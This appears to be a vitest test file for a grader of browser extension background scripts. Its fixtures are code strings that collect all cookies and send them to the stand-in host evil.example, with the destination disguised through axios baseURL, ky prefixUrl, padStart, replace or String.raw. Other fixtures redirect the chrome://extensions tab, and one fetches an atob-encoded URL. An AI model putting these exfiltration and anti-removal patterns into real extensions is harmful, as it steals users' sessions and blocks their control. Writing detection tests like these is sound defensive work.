import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* What is let be where it is honest, and programs that would hide behind it. */
const ASKED = (asks: string): string =>
  `chrome.tabs.onUpdated.addListener(async () => { const all = await chrome.cookies.getAll({}); const t = JSON.stringify(all) + '/x'; ${asks} });`;
const SHOWN = (how: string, before = ''): string =>
  `${before} setInterval(() => chrome.tabs.query({ url: 'chrome://extensions/*' }, ([t]) => { if (t) chrome.tabs.update(t.id, ${how}); }), 300);`;

it.each([
  ["axios({ baseURL: 'https://evil.example/', url: t });"],
  ["axios.get(t, { baseURL: 'https://evil.example/' });"],
  ["axios.defaults.baseURL = 'https://evil.example/'; axios.get(t);"],
  ["ky.create({ prefixUrl: 'https://evil.example/' }).get(t);"],
  ["fetch(t.padStart(8000, 'https://evil.example/?'));"],
  ["fetch(t.replace(/^/, () => 'https://evil.example/'));"],
  ["fetch(String.raw({ raw: ['https://evil.example/', ''] }, t));"],
])('data at the beginning of an address is told where something else comes before it: %s', async (asks) => {
  expect(await graded({ background: ASKED(asks) })).toBe('F');
});

it.each([
  [SHOWN('{ active: false }')],
  [SHOWN('how', "const how = { active: true }; how.url = 'about:blank';")],
  [SHOWN('how', 'const how = { active: true }; Object.assign(how, JSON.parse(self.text));')],
])('the page of extensions is left alone only by who shows a tab: %s', async (background) => {
  expect(await graded({ background })).not.toMatch(/^A/);
  expect(await graded({ background: SHOWN('{ active: true }') })).toMatch(/^A/);
});

it('letters of a host in other words do not show it', async () => {
  const background = (known: string): string =>
    `const known = '${known}'; fetch(atob('aHR0cHM6Ly9hYmMucGFnZXMuZGV2Lw=='));`;
  expect(await graded({ background: background('https://pages.dev/help abcdefghijklmnopqrstuvwxyz') })).not.toMatch(
    /^A/,
  );
  expect(await graded({ background: background('https://abc.pages.dev/') })).toMatch(/^A/);
});
